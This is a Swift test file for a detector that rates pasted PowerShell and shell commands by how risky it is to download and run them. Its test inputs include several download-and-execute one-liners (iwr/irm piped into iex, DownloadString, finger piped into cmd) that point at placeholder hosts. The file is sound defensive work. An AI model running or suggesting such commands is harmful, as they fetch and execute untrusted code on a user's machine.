import Testing

@testable import Guard

/// `Signal.downloadIntoPowerShell`.
struct DownloadIntoPowerShellTests {
  @Test(arguments: [
    "iwr http://fix.example/a | iex",
    #"IEX (New-Object Net.WebClient).DownloadString("http://fix.example/a")"#,
    #"powershell -c "irm fix.example/a | iex""#,
    "finger a@203.0.113.7 | cmd",
    #"powershell -c "iwr http://fix.example/a.exe -OutFile a.exe; .\a.exe""#,
  ])
  func `a script over an unprotected connection into PowerShell is held`(text: String) {
    #expect(Signal.downloadIntoPowerShell.severity(of: text) == .hold)
  }

  @Test(arguments: [
    "irm https://fix.example/a | iex",
    "irm https://astral.sh/uv/install.ps1 | iex",
    #"powershell -c "irm bun.sh/install.ps1 | iex""#,
  ])
  func `a script over a protected connection is noticed`(text: String) {
    #expect(Signal.downloadIntoPowerShell.severity(of: text) == .notice)
  }

  @Test(arguments: [
    "Invoke-WebRequest https://fix.example/a.zip -OutFile a.zip",
    "Get-Content a.ps1 | iex",
    "curl https://fix.example/a | sh",
    "Invoke-RestMethod https://api.example.com/items | Select-Object name",
  ])
  func `downloads that are not run are harmless`(text: String) {
    #expect(Signal.downloadIntoPowerShell.severity(of: text) == nil)
  }
}
